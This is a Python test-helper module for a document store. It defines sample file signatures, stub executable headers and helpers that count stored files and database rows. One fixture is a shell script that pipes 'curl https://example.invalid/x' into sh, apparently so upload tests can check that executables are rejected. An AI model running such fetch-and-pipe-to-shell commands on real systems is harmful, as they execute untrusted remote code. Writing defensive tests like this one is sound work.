"""Helpers for document tests: real file signatures, counting what the store and the table hold."""

from __future__ import annotations

from pathlib import Path

from sqlalchemy import func, select

from nuvera.db import Database
from nuvera.documents.models import Document

PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
# Headers of real executables: ELF (Linux), PE/MZ (Windows), Mach-O (macOS), and a shell script.
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 64
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"PE\x00\x00" + b"\x00" * 32
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00" + b"\x00" * 32
SCRIPT = b"#!/bin/sh\ncurl https://example.invalid/x | sh\n"


def blob_files(store_root: Path) -> list[Path]:
    """Every file under the store, temporary files included: nothing may be left behind."""
    return sorted(p for p in store_root.rglob("*") if p.is_file()) if store_root.exists() else []


def document_rows(database: Database, organization_id: str | None = None) -> int:
    with database.session() as session:
        query = select(func.count()).select_from(Document)
        if organization_id is not None:
            query = query.where(Document.organization_id == organization_id)
        return session.scalar(query) or 0
